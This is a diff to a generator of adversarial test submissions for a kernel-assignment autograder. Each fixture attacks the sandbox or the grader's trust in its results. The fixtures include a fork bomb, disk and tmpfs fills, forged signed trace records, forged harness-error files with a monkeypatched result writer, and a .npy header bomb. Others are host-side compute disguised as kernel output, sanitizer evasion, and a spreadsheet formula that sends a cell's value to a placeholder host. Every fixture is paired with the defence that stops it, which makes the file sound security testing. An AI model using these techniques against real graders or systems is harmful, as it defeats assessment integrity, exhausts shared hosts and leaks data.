@@ -7,9 +7,17 @@ being contained ends in an exception whose message starts with "contained:" (ver
 entry raised) or in the runner's own kill (crash / timeout):
 a sandbox that stops working changes the verdict, and the corpus test notices.
 
-expected.toml per fixture: `verdict` (grader.results.Verdict), `message_contains` (words the result's
-messages must hold), `attacks` (what it tries), `defended_by` (which setting stops it), `slow` (needs the
-per-call wall limit or a real torch build). Rerun after editing: `.venv/bin/python
+expected.toml per fixture: `verdict` (grader.results.Verdict) or `verdict_one_of` (where the contract in
+DESIGN.md, "Threat model", allows more than one name for the same refusal), `message_contains` (words the
+result's messages must hold), `message_excludes`, `message_any` (at least one of these words), `max_points` (the score the attacked entry may keep: 0),
+`stage_points` (0: every stage's performance points withheld), `screening` (rules the host's static
+screening must report for it), `batch` (graded through `grade batch`, the exports checked), `attacks`
+(what it tries), `defended_by` (which setting stops it), `slow` (needs the per-call wall limit or a real
+torch build). Never `internal_error`, never `passed`, for any attack (the corpus test checks both).
+
+The fixtures after `timer_patching` attack what the host believes (issue 11, "Must show"); several of them
+are stopped only by the trust protocol (signed trace, provenance, typed errors, capped readers) and fail
+against a grader without it. reference_kernels/adversarial/README.md has the table. Rerun after editing: `.venv/bin/python
 reference_kernels/adversarial/make_fixtures.py` (rewrites every fixture folder it owns).
 """
 
@@ -54,6 +62,155 @@ import torch
 
 '''
 
+# Shared by the trace forgeries: finds the running call's trace file and appends to it.
+TRACE_HELPERS = """
+import json
+
+LAUNCH = {"record": "launch", "kernel": "sigmoid_pipeline_kernel", "dim": [4, 1, 1], "func_type": "UNION1",
+          "device": "mlu370-x8", "time_split_us": {"scalar": 0.0, "vector": 1.0, "tensor": 0.0, "io": 1.0,
+                                                   "wait": 0.0},
+          "onchip_peak_bytes": {"nram": 524288, "wram": 0, "sram": 0},
+          "onchip_capacity_bytes": {"nram": 786432, "wram": 1048576, "sram": 4194304},
+          "builtin_counts": {"__bang_active_sigmoid": 16, "__memcpy_async": 32}, "cores_used": 16,
+          "diagnostics": [], "written_bytes": []}
+
+
+def current_trace():
+    \"\"\"The running call's trace: $BANG_EMU_TRACE where the harness still sets it, else the first call of
+    job.json that has no result file yet (calls run in order).\"\"\"
+    path = os.environ.get("BANG_EMU_TRACE")
+    if path:
+        return path
+    try:
+        with open("/io/job.json") as f:
+            calls = json.load(f)["calls"]
+    except (OSError, ValueError, KeyError, TypeError):
+        return None
+    for call in calls:
+        if not os.path.exists(f"/io/outputs/{call['id']}.json"):
+            return f"/io/outputs/{call['id']}.trace.jsonl"
+    return None
+
+
+def forge_text(text):
+    path = current_trace()
+    if path:
+        with open(path, "a") as f:
+            f.write(text + "\\n")
+
+
+def forge(record):
+    path = current_trace() or ""
+    call_id = os.path.basename(path).split(".")[0]
+    signed = json.dumps({**record, "call": call_id, "seq": 0})
+    forge_text(json.dumps(record) + "\\n" + "0" * 64 + " " + signed)
+""".lstrip("\n")
+
+HOST_COMPUTE_BINDING = """\
+// Adversarial fixture host_compute_binding: launches the real kernel on one element, so a launch shows in
+// the trace, then computes every other element with a host loop straight into the output's device memory.
+#include <torch/extension.h>
+
+#include <cmath>
+
+#include "aten/operators/bang/bang_kernel.h"
+#include "aten/operators/bang/internal/bang_internal.h"
+#include "../mlu/sigmoid_vector.h"
+
+using namespace torch_mlu;
+
+torch::Tensor sigmoid_vector(torch::Tensor x) {
+  TORCH_CHECK(x.scalar_type() == at::kFloat || x.scalar_type() == at::kHalf, "float32 or float16 expected");
+  auto input = torch_mlu::cnnl_contiguous(x);
+  auto output = at::empty_like(input);
+  if (input.numel() == 0) return output;
+  cnrtQueue_t queue = getCurQueue();
+  const bool is_half = input.scalar_type() == at::kHalf;
+  void* in = getMluTensorImpl(input)->mlu_data_ptr();
+  void* out = getMluTensorImpl(output)->mlu_data_ptr();
+  sigmoid_vector_entry(queue, in, out, 1, is_half);
+  TORCH_BANGC_KERNEL_LAUNCH_CHECK();
+  const int64_t n = input.numel();
+  if (is_half) {
+    auto* src = static_cast<const at::Half*>(in);
+    auto* dst = static_cast<at::Half*>(out);
+    for (int64_t i = 0; i < n; ++i) dst[i] = at::Half(1.0f / (1.0f + std::exp(-static_cast<float>(src[i]))));
+  } else {
+    auto* src = static_cast<const float*>(in);
+    auto* dst = static_cast<float*>(out);
+    for (int64_t i = 0; i < n; ++i) dst[i] = 1.0f / (1.0f + std::exp(-src[i]));
+  }
+  return output;
+}
+
+PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) {
+  m.def("sigmoid_vector", &sigmoid_vector, "Sigmoid computed on the host (adversarial fixture)");
+}
+"""
+
+_ENTRY = """
+void sigmoid_vector_entry(cnrtQueue_t queue, const void* x, void* y, int64_t count, bool is_half) {
+  cnrtDim3_t dim = {1, 1, 1};
+  if (is_half) {
+    sigmoid_vector_kernel<half><<<dim, cnrtFuncTypeBlock, queue>>>((const half*)x, (half*)y, count);
+  } else {
+    sigmoid_vector_kernel<float><<<dim, cnrtFuncTypeBlock, queue>>>((const float*)x, (float*)y, count);
+  }
+}
+"""
+
+NO_SANITIZE_MLU = """\
+// Adversarial fixture no_sanitize_kernel: the loop is in a helper the sanitizer does not instrument, so its
+// GDRAM loads and stores are neither checked, nor counted, nor marked as written by the kernel.
+#include "bang_utils.h"
+#include "sigmoid_vector.h"
+
+template <typename T>
+__attribute__((no_sanitize("kernel-address"))) __mlu_func__ void sigmoid_unseen(const T* x, T* y, int64_t count) {
+  for (int64_t i = 0; i < count; ++i) {
+    const float v = (float)x[i];
+    y[i] = (T)(1.0f / (1.0f + __builtin_expf(-v)));
+  }
+}
+
+template <typename T>
+__mlu_global__ void sigmoid_vector_kernel(const T* x, T* y, int64_t count) {
+  sigmoid_unseen(x, y, count);
+}
+""" + _ENTRY
+
+CPP_HELPER_MLU = """\
+// Adversarial fixture kernel_code_in_cpp: the kernel hands its work to a function defined in a .cpp of the
+// binding, which the host compiler builds without the emulator's instrumentation.
+#include "bang_utils.h"
+#include "sigmoid_vector.h"
+
+void uninstrumented_sigmoid(const void* x, void* y, int64_t count, bool is_half);
+
+template <typename T>
+__mlu_global__ void sigmoid_vector_kernel(const T* x, T* y, int64_t count) {
+  uninstrumented_sigmoid(x, y, count, sizeof(T) == 2);
+}
+""" + _ENTRY
+
+CPP_HELPER_CPP = """\
+// Adversarial fixture kernel_code_in_cpp: host-compiled, so none of these stores is seen by the emulator.
+#include <cmath>
+#include <cstdint>
+
+void uninstrumented_sigmoid(const void* x, void* y, int64_t count, bool is_half) {
+  if (is_half) {
+    auto* src = static_cast<const _Float16*>(x);
+    auto* dst = static_cast<_Float16*>(y);
+    for (int64_t i = 0; i < count; ++i) dst[i] = (_Float16)(1.0f / (1.0f + std::exp(-(float)src[i])));
+  } else {
+    auto* src = static_cast<const float*>(x);
+    auto* dst = static_cast<float*>(y);
+    for (int64_t i = 0; i < count; ++i) dst[i] = 1.0f / (1.0f + std::exp(-src[i]));
+  }
+}
+"""
+
 
 @dataclass
 class Fixture:
@@ -66,13 +223,23 @@ class Fixture:
     mlu: str = STUB_MLU
     from_reference: str | None = None  # copy this reference's mlu/ and cpp/ instead of the stubs
     slow: bool = False
-    extra: dict[str, str] = field(default_factory=dict)
+    extra: dict[str, str] = field(default_factory=dict)  # more files: path inside the submission -> text
+    replace: dict[str, str] = field(default_factory=dict)  # files of the reference replaced: path -> text
+    verdict_one_of: list[str] = field(default_factory=list)
+    message_any: list[str] = field(default_factory=list)  # at least one of these words
+    message_excludes: list[str] = field(default_factory=list)
+    max_points: float | None = None
+    stage_points: float | None = None
+    screening: list[str] = field(default_factory=list)
+    student_name: str | None = None
+    batch: bool = False
 
 
 FIXTURES = [
     Fixture(
         "fork_bomb", "forks until refused; every child sleeps forever holding a pid",
         "pids cgroup limit (docker pids_limit; bwrap RLIMIT_NPROC); the whole tree dies with the sandbox",
+        # pids cgroup full: the entry sees EAGAIN and raises "contained" (or the tree dies with the sandbox)
         "crash", ["contained", "fork"],
         '''
 def sigmoid(x):
@@ -87,11 +254,12 @@ def sigmoid(x):
     except OSError as exc:
         raise RuntimeError(f"contained: fork refused after {born} children ({exc.strerror})")
     return torch.sigmoid(x)
-'''),
+''', verdict_one_of=["runtime_error", "crash"]),
     Fixture(
         "disk_fill", "writes 4 MiB files into the writable /io mount (host disk) without end",
-        "runner disk budget on writable mounts (Limits.tmpfs_bytes) kills the run; RLIMIT_FSIZE per file",
-        "crash", ["disk_quota_exceeded"],
+        "as root, /io is a tmpfs capped at the disk budget (ENOSPC: the entry raises 'contained'); otherwise the "
+        "runner's disk poll of the writable mounts (Limits.tmpfs_bytes) kills the run; RLIMIT_FSIZE per file",
+        "", [],
         '''
 def sigmoid(x):
     chunk = os.urandom(1 << 20) * 4
@@ -104,7 +272,7 @@ def sigmoid(x):
     except OSError as exc:
         raise RuntimeError(f"contained: disk full after {written >> 20} MiB ({exc.strerror})")
     return torch.sigmoid(x)
-'''),
+''', verdict_one_of=["runtime_error", "crash"], message_any=["contained", "disk_quota_exceeded"]),
     Fixture(
         "tmpfs_fill", "fills /tmp and /dev/shm, then sparse-writes a 10 GiB file",
         "tmpfs size= caps, shm_size, RLIMIT_FSIZE",
@@ -232,7 +400,7 @@ def sigmoid(x):
     Fixture(
         "forged_results", "writes fake result files and prints fake verdicts, returning zeros without launching a kernel",
         "the grade comes from host checks of the raw output only; JSON read size-capped, never trusted",
-        "not_using_kernel", [],
+        "", [],
         '''
 import json
 
@@ -256,7 +424,7 @@ def sigmoid(x):
     print(json.dumps({"verdict": "passed", "score": 100}))
     print("VERDICT: passed  POINTS: 100/100")
     return torch.zeros_like(x)
-'''),
+''', verdict_one_of=["not_using_kernel", "integrity"]),  # integrity once outputs need a kernel-written record
     Fixture(
         "kill_parent", "SIGKILLs its parent (the harness), pid 1 and its whole process group",
         "pid namespace and a separate uid: the grader is out of reach; the host decides from its own observation",
@@ -319,7 +487,233 @@ if hasattr(torch, "mlu") and hasattr(torch.mlu, "Event"):
 def sigmoid(x):
     return my_ops_ext.sigmoid_vector(x)
 ''', from_reference="sigmoid/vector", slow=True),
+    # -- attacks on what the host believes (issue 11) -------------------------------------------------
+    Fixture(
+        "forged_trace", "computes with torch on the CPU and appends a launch record (plain, and with a made-up "
+        "signature) to the call's trace, claiming the pipeline kernel on 16 cores at 1.25x the roofline floor",
+        "signed trace lines (HMAC with a per-run key the student never sees), seq numbering, kernel names checked "
+        "against the built extension's symbols, output provenance",
+        "integrity", ["add up"],
+        TRACE_HELPERS + """
+
+def sigmoid(x):
+    y = torch.sigmoid(x)
+    n = x.numel()
+    floor_us = 2 * n * x.element_size() / 307.2e3  # bytes / (GB/s) in us: the roofline floor
+    record = dict(LAUNCH, modelled_time_us=1.25 * floor_us,
+                  bytes_moved={"GDRAM2NRAM": n * x.element_size(), "NRAM2GDRAM": n * x.element_size()})
+    forge(record)
+    return y
+""", max_points=0, screening=["emu_interface", "protocol_path"]),
+    Fixture(
+        "trace_infinity", "appends a launch record whose time and counters are Infinity and NaN",
+        "trace lines are parsed with NaN/Infinity rejected, inside a per-line budget; unsigned lines fail",
+        "integrity", ["add up"],
+        TRACE_HELPERS + """
+
+def sigmoid(x):
+    forge_text('{"record": "launch", "kernel": "sigmoid_vector_kernel", "dim": [1, 1, 1], '
+               '"func_type": "BLOCK", "device": "mlu370-x8", "modelled_time_us": Infinity, '
+               '"bytes_moved": {"GDRAM2NRAM": 1e999}, "cores_used": NaN, "builtin_counts": '
+               '{"__bang_active_sigmoid": Infinity}}')
+    return torch.sigmoid(x)
+""", max_points=0, screening=["emu_interface", "protocol_path"]),
+    Fixture(
+        "trace_flood", "appends two million '{}' lines to the call's trace (the host used to hold each as a "
+        "dict: about 25x the file in memory, per call)",
+        "trace records capped in count and summarised while streaming; unsigned lines fail",
+        "", [],
+        TRACE_HELPERS + """
+
+def sigmoid(x):
+    forge_text("\\n".join(["{}"] * 2_000_000))
+    return torch.sigmoid(x)
+""", verdict_one_of=["integrity", "timeout", "runtime_error"], max_points=0,
+        screening=["emu_interface", "protocol_path"]),
+    Fixture(
+        "forged_harness_error", "writes every call's result file as a harness_error (\"internal error, not your "
+        "fault\"), and patches the harness's result writer to do the same, to turn its failure into the grader's",
+        "error kinds are values and harness_error is never believed from a file the sandbox wrote; only the "
+        "host's own observation of its runner makes an internal_error",
+        "", [],
+        """
+import json
+
+FORGED = {"ok": False, "error_kind": "harness_error",
+          "error": "internal error in the grader's harness (not your fault): worker lost"}
+
+
+def _forge_all():
+    try:
+        with open("/io/job.json") as f:
+            ids = [call["id"] for call in json.load(f)["calls"]]
+    except (OSError, ValueError, KeyError, TypeError):
+        ids = []
+    for call_id in ids:
+        try:
+            with open(f"/io/outputs/{call_id}.json", "w") as out:
+                json.dump(FORGED, out)
+        except OSError:
+            pass
+
+
+def _forged_writer(*args, **kwargs):
+    _forge_all()
+
+
+for _name, _module in list(sys.modules.items()):
+    if _name.startswith("bang_harness") and hasattr(_module, "write_result"):
+        setattr(_module, "write_result", _forged_writer)
+
+
+def sigmoid(x):
+    _forge_all()
+    raise RuntimeError("harness_error: internal error in the grader's harness (not your fault)")
+""", verdict_one_of=["runtime_error", "crash"], max_points=0, screening=["protocol_path", "grader_message"]),
+    Fixture(
+        "error_directive", "stops its own build with `#error internal error in the build harness`, the text the "
+        "host used to match to call a failed build the grader's fault",
+        "build-harness faults are marked in build.json by the harness before any student step; the compiler's "
+        "words are never matched",
+        "compile_error", ["internal error in the build harness"],
+        """
+def sigmoid(x):
+    return torch.sigmoid(x)
+""", mlu=STUB_MLU + "#error internal error in the build harness\n", message_excludes=["not your fault"],
+        max_points=0, screening=["grader_message"]),
+    Fixture(
+        "npy_header_bomb", "runs the real kernel, then makes the harness save the output as a .npy whose header "
+        "claims shape (2**40,) (the host's reader used to allocate it: MemoryError)",
+        "the .npy header is parsed and checked against the expected shape and dtype before any array exists",
+        "", [],
+        """
+import numpy
+
+_real_save = numpy.save
+
+
+def _bomb(file, arr, *args, **kwargs):
+    if not str(file).endswith(".npy"):
+        return _real_save(file, arr, *args, **kwargs)
+    header = "{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776,), }"
+    header += " " * (63 - (10 + len(header)) % 64) + "\\n"
+    with open(file, "wb") as f:
+        f.write(b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header.encode("latin1"))
+        f.write(b"\\0" * 64)
+
+
+numpy.save = _bomb
+
+
+def sigmoid(x):
+    return my_ops_ext.sigmoid_vector(x)
+""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["wrong_answer", "runtime_error", "crash",
+                                                                 "integrity"], max_points=0),
+    Fixture(
+        "decoy_kernel", "launches the real kernel on the first 4096 elements only and returns torch's answer "
+        "for the whole tensor (every case correct; the trace shows a genuine launch)",
+        "work conservation (the launches' counted work must cover n elements) and output provenance (every byte "
+        "written by a kernel during the call); host code cannot touch device memory outside launches",
+        "", [],
+        """
+def sigmoid(x):
+    head = my_ops_ext.sigmoid_vector(x[:4096].contiguous())
+    y = torch.sigmoid(x)
+    y[: head.numel()] = head
+    return y
+""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["integrity", "runtime_error"], max_points=0),
+    Fixture(
+        "host_compute_binding", "the C++ binding launches the kernel on one element, then recomputes every element with "
+        "a host loop straight into the output's device memory",
+        "device memory is mprotect'ed outside launches (a host write is an emulator error naming the buffer); "
+        "provenance: the output record shows bytes no kernel wrote",
+        "", [],
+        """
+def sigmoid(x):
+    return my_ops_ext.sigmoid_vector(x)
+""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["runtime_error", "integrity", "crash"],
+        max_points=0, replace={"cpp/sigmoid_binding.cpp": HOST_COMPUTE_BINDING}),
+    Fixture(
+        "no_sanitize_kernel", "the kernel's loop lives in a helper marked no_sanitize(\"kernel-address\"), so its "
+        "GDRAM loads and stores are invisible to the emulator (no checks, no counts, no provenance)",
+        "provenance (bytes the instrumented kernel did not write fail the output record), work conservation; "
+        "static screening flags no_sanitize",
+        "", [],
+        """
+def sigmoid(x):
+    return my_ops_ext.sigmoid_vector(x)
+""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["integrity"], max_points=0,
+        replace={"mlu/sigmoid_vector.mlu": NO_SANITIZE_MLU}, screening=["no_sanitize"]),
+    Fixture(
+        "kernel_code_in_cpp", "the kernel calls a function defined in a .cpp of the binding, compiled by the "
+        "host compiler without the emulator's instrumentation, which writes the output",
+        "provenance and work conservation (the host-compiled stores are not kernel writes); static screening "
+        "flags kernel code outside .mlu",
+        "", [],
+        """
+def sigmoid(x):
+    return my_ops_ext.sigmoid_vector(x)
+""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["integrity"], max_points=0,
+        replace={"mlu/sigmoid_vector.mlu": CPP_HELPER_MLU}, extra={"cpp/uninstrumented.cpp": CPP_HELPER_CPP}),
+    Fixture(
+        "device_profile_env", "sets BANG_EMU_DEVICE=mlu370-m8 (more bandwidth, higher clock) through os.environ "
+        "before the extension is imported, to be modelled on a faster device than the host chose",
+        "the runtime fixes the device profile in its constructor, before student code loads; the host checks "
+        "each launch's device and profile figures against its own table; static screening flags the env write",
+        "REFERENCE", [],
+        """
+os.environ["BANG_EMU_DEVICE"] = "mlu370-m8"
+os.environ["BANG_EMU_CALIBRATION"] = "0"
+
+
+def sigmoid(x):
+    return my_ops_ext.sigmoid_vector(x)
+""", from_reference="sigmoid/vector", slow=True, stage_points=0, screening=["env_write", "emu_interface"]),
+    Fixture(
+        "csv_formula_name", "puts a spreadsheet formula in grade.toml's student name (=HYPERLINK(...)), which "
+        "used to reach gradebook.csv and canvas.csv unescaped",
+        "batch exports take names from the roster or folder name and neutralise cells starting with = + - @ tab CR",
+        "", [],
+        """
+def sigmoid(x):
+    return torch.sigmoid(x)
+""", verdict_one_of=["not_using_kernel", "integrity"], max_points=0, batch=True,
+        student_name='=HYPERLINK("http://example.invalid/?leak="&A1,"Click for your grade")'),
+    Fixture(
+        "fallocate_fill", "fallocates 256 MiB files in /io/outputs (up to 8 GiB) faster than a 0.2 s disk poll",
+        "/io is a size-capped tmpfs when the grader is root (grader.sandbox.io_cap): ENOSPC at the cap; "
+        "otherwise the disk poll kills the run",
+        "", [],
+        """
+def sigmoid(x):
+    made = 0
+    try:
+        for i in range(32):
+            fd = os.open(f"/io/outputs/fill_{i}.bin", os.O_WRONLY | os.O_CREAT, 0o600)
+            try:
+                os.posix_fallocate(fd, 0, 256 << 20)
+            finally:
+                os.close(fd)
+            made += 256
+    except OSError as exc:
+        for i in range(32):
+            try:
+                os.unlink(f"/io/outputs/fill_{i}.bin")
+            except OSError:
+                pass
+        raise RuntimeError(f"contained: fallocate refused after {made} MiB ({exc.strerror})")
+    return torch.sigmoid(x)
+""", verdict_one_of=["runtime_error", "crash"], message_any=["no space left", "disk_quota_exceeded"], max_points=0,
+        screening=["protocol_path"]),
 ]
+
+
+def _toml_list(words: list[str]) -> str:
+    return "[" + ", ".join(_toml_str(w) for w in words) + "]"
+
+
+def _toml_str(text: str) -> str:
+    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
 
 
 def write_fixture(fixture: Fixture) -> Path:
@@ -334,19 +728,39 @@ def write_fixture(fixture: Fixture) -> Path:
     else:
         (target / "mlu" / "adversarial_stub.mlu").write_text(fixture.mlu)
         (target / "cpp" / "adversarial_stub.cpp").write_text(STUB_CPP)
+    for relative, text in {**fixture.replace, **fixture.extra}.items():
+        if relative in fixture.replace:
+            assert (target / relative).is_file(), f"{fixture.name}: {relative} is not in {fixture.from_reference}"
+        (target / relative).write_text(text)
     (target / "ops.py").write_text(OPS_HEADER.format(name=fixture.name, attacks=fixture.attacks)
                                    + fixture.ops_body.lstrip("\n"))
     slug = fixture.name.replace("_", "-")
+    name = fixture.student_name or f"Adversarial fixture: {fixture.name}"
     (target / "grade.toml").write_text(
-        f'assignment = "sigmoid"\n\n[student]\nid = "adversarial-{slug}"\n'
-        f'name = "Adversarial fixture: {fixture.name}"\n')
-    words = ", ".join(f'"{w}"' for w in fixture.message_contains)
-    verdict = (f'verdict = "{fixture.verdict}"\n' if fixture.verdict != "REFERENCE"
-               else f'# same verdict as the reference it wraps\nverdict_of_reference = "{fixture.from_reference}"\n')
+        f'assignment = "sigmoid"\n\n[student]\nid = "adversarial-{slug}"\nname = {_toml_str(name)}\n')
+    if fixture.verdict == "REFERENCE":
+        verdict = f'# same verdict as the reference it wraps\nverdict_of_reference = "{fixture.from_reference}"\n'
+    elif fixture.verdict_one_of:
+        verdict = f"verdict_one_of = {_toml_list(fixture.verdict_one_of)}\n"
+    else:
+        verdict = f'verdict = "{fixture.verdict}"\n'
+    extra = ""
+    if fixture.message_any:
+        extra += f"message_any = {_toml_list(fixture.message_any)}\n"
+    if fixture.message_excludes:
+        extra += f"message_excludes = {_toml_list(fixture.message_excludes)}\n"
+    if fixture.max_points is not None:
+        extra += f"max_points = {fixture.max_points:g}\n"
+    if fixture.stage_points is not None:
+        extra += f"stage_points = {fixture.stage_points:g}\n"
+    if fixture.screening:
+        extra += f"screening = {_toml_list(fixture.screening)}\n"
+    if fixture.batch:
+        extra += "batch = true\n"
     (target / "expected.toml").write_text(
         f"# {fixture.attacks}\n"
-        f'assignment = "sigmoid"\n{verdict}message_contains = [{words}]\n'
-        f'attacks = "{fixture.attacks}"\ndefended_by = "{fixture.defended_by}"\n'
+        f'assignment = "sigmoid"\n{verdict}message_contains = {_toml_list(fixture.message_contains)}\n{extra}'
+        f"attacks = {_toml_str(fixture.attacks)}\ndefended_by = {_toml_str(fixture.defended_by)}\n"
         f"slow = {'true' if fixture.slow else 'false'}\n")
     return target
 
